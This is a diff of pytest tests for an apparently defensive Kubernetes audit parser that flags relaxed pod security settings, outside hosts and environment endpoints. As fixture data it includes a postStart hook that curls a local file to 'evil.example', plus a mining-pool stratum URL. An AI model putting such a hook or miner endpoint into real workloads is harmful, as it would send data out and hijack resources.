@@ -53,6 +53,7 @@ def test_an_applied_privileged_pod() -> None:
         "pod.host_process": False,
         "pod.share_process_namespace": False,
         "pod.service_account": "default",
+        "pod.account": "system:serviceaccount:web:default",
         "pod.images": ("public.ecr.aws/docker/library/busybox:1.36",),
         "pod.privileged": True,
         "pod.written": True,
@@ -238,7 +239,9 @@ def test_the_settings_of_a_pod() -> None:
         "pod.host_ports": ("80",),
         "pod.share_process_namespace": True,
         "pod.sysctls": ("kernel.msgmax",),
+        "pod.relaxed": ("shareProcessNamespace", "sysctl kernel.msgmax"),
         "pod.service_account": "old-name",
+        "pod.account": "system:serviceaccount:web:old-name",
         "pod.automount_token": False,
         "pod.node": "n1",
         "pod.priority_class": "system-node-critical",
@@ -248,6 +251,90 @@ def test_the_settings_of_a_pod() -> None:
         "pod.owner_kind": "ReplicaSet",
         "pod.written": True,
     }
+
+
+@pytest.mark.parametrize(
+    ("security", "relaxed"),
+    [
+        ({}, None),
+        ({"runAsUser": 0}, ("runAsUser 0",)),
+        ({"runAsUser": 1}, None),
+        ({"runAsUser": False}, None),
+        ({"runAsNonRoot": False}, ("runAsNonRoot false",)),
+        ({"runAsNonRoot": True}, None),
+        ({"allowPrivilegeEscalation": True}, ("allowPrivilegeEscalation",)),
+        ({"allowPrivilegeEscalation": False}, None),
+        ({"procMount": "Unmasked"}, ("procMount Unmasked",)),
+        ({"procMount": "Default"}, None),
+        ({"seccompProfile": {"type": "Unconfined"}}, ("seccomp Unconfined",)),
+        ({"seccompProfile": {"type": "RuntimeDefault"}}, None),
+        ({"appArmorProfile": {"type": "Unconfined"}}, ("AppArmor Unconfined",)),
+        ({"appArmorProfile": "Unconfined"}, None),
+        ({"seLinuxOptions": {"type": "spc_t"}}, ("SELinux type spc_t",)),
+        ({"seLinuxOptions": {"type": "container_t", "level": "s0"}}, None),
+        ({"seLinuxOptions": {"user": "system_u"}}, ("SELinux user system_u",)),
+        ({"seLinuxOptions": {"role": "system_r"}}, ("SELinux role system_r",)),
+        ({"privileged": True, "allowPrivilegeEscalation": True, "runAsUser": 0}, None),
+    ],
+)
+def test_what_a_container_gives_up_is_named(security: Any, relaxed: Any) -> None:
+    """Explicit settings alone, and nothing of a container that is privileged anyway."""
+    given = pod_event({"containers": [{"name": "a", "securityContext": security}]})
+
+    assert pod(given).get("pod.relaxed") == relaxed
+
+
+@pytest.mark.parametrize(
+    ("spec", "relaxed"),
+    [
+        ({"hostUsers": True}, ("hostUsers",)),
+        ({"hostUsers": False}, None),
+        ({"securityContext": {"runAsUser": 0}}, ("runAsUser 0",)),
+        ({"securityContext": {"sysctls": [{"name": "net.ipv4.tcp_syncookies"}]}}, None),
+        (
+            {"securityContext": {"sysctls": [{"name": "net.core.somaxconn"}]}},
+            ("sysctl net.core.somaxconn",),
+        ),
+        (
+            {
+                "securityContext": {"runAsUser": 0},
+                "containers": [{"securityContext": {"runAsUser": 0}}],
+            },
+            ("runAsUser 0",),
+        ),
+    ],
+)
+def test_what_a_pod_gives_up_is_named_once(spec: Any, relaxed: Any) -> None:
+    """Settings of the pod, and those that its containers repeat."""
+    assert pod(pod_event(spec)).get("pod.relaxed") == relaxed
+
+
+@pytest.mark.parametrize(
+    ("key", "value", "relaxed"),
+    [
+        ("container.apparmor.security.beta.kubernetes.io/a", "unconfined", True),
+        ("container.apparmor.security.beta.kubernetes.io/a", "runtime/default", False),
+        ("example.com/a", "unconfined", False),
+    ],
+)
+def test_an_annotation_takes_apparmor_away(key: str, value: str, relaxed: bool) -> None:
+    """As it was written before the field existed."""
+    given = pod_event({"hostPID": False}, metadata={"name": "p", "annotations": {key: value}})
+
+    assert ("AppArmor Unconfined" in pod(given).get("pod.relaxed", ())) is relaxed
+
+
+def test_capabilities_are_those_of_all_containers() -> None:
+    """However they are spelt, once."""
+    added = [{"securityContext": {"capabilities": {"add": [name]}}} for name in ("CAP_BPF", "bpf")]
+    spec = {"containers": added, "initContainers": [{"securityContext": {}}]}
+
+    assert pod(pod_event(spec))["pod.capabilities"] == ("BPF",)
+
+
+def test_an_account_needs_a_name_and_a_namespace() -> None:
+    """A template that names no account takes what the namespace gives."""
+    assert "pod.account" not in pod(pod_event({"hostPID": False}))
 
 
 def test_the_settings_of_a_container() -> None:
@@ -278,6 +365,7 @@ def test_the_settings_of_a_container() -> None:
     assert container(spec) == {
         "container.name": "shell",
         "container.kind": "container",
+        "container.added": False,
         "container.image": "nginx:1.25",
         "container.repository": "docker.io/library/nginx",
         "container.registry": "docker.io",
@@ -291,6 +379,7 @@ def test_the_settings_of_a_container() -> None:
         "container.proc_mount": "Unmasked",
         "container.command": "sh -c sleep 1",
         "container.hooks": ("wget x", "cat /ok"),
+        "container.decoded": ("sh -c sleep 1", "wget x", "cat /ok"),
         "container.env_names": ("A", "B"),
         "container.mounts": ("/host",),
         "container.ports": ("22",),
@@ -360,3 +449,44 @@ def test_a_debug_session_writes_only_its_own_container() -> None:
     assert row["container.target"] == "checkout"
     assert row["pod.written"] is True
     assert rows(given, "pod") == ()
+
+
+def test_hosts_outside_are_those_of_commands_and_hooks() -> None:
+    """Arguments and probes count, services of the cluster do not."""
+    probe = {"exec": {"command": ["wget", "-q", "http://orders.shop.svc/healthz"]}}
+    start = {"exec": {"command": ["sh", "-c", "curl -d @/etc/x https://evil.example/in"]}}
+    made = container(
+        {
+            "name": "c",
+            "args": ["--connect", "203.0.113.250:443"],
+            "livenessProbe": probe,
+            "lifecycle": {"postStart": start},
+        }
+    )
+
+    assert made["container.outside_hosts"] == ("203.0.113.250", "evil.example")
+
+
+@pytest.mark.parametrize(
+    ("value", "peers"),
+    [
+        ("stratum+tcp://pool.example.net:3333", ("stratum+tcp://pool.example.net:3333",)),
+        ("Pool.Example.Net:443", ("pool.example.net:443",)),
+        ("postgres://app:geheim@db.example.com:5432/shop", ("postgres://db.example.com:5432",)),
+        ("amqp://app:p.w@203.0.113.9", ("amqp://203.0.113.9",)),
+        ("amqp://app:p/x.y:1@203.0.113.9", None),
+        ("a.example.com:9092,b.example.com:9092", ("a.example.com:9092", "b.example.com:9092")),
+        ("a.example.com", None),
+        ("production", None),
+        ("x" * 2_048 + " late.example.com:80", None),
+        ("x" * 2_030 + " in.example.com:80", ("in.example.com:80",)),
+        (None, None),
+    ],
+)
+def test_hosts_in_the_environment(value: str | None, peers: tuple[str, ...] | None) -> None:
+    """With scheme and port, without what stands before an at sign."""
+    body = {"spec": {"containers": [{"name": "a", "env": [{"name": "A", "value": value}]}]}}
+
+    (row,) = rows(event(APPLIED, requestObject=body, responseObject=None), "container")
+
+    assert row["container.env_peers"] == peers
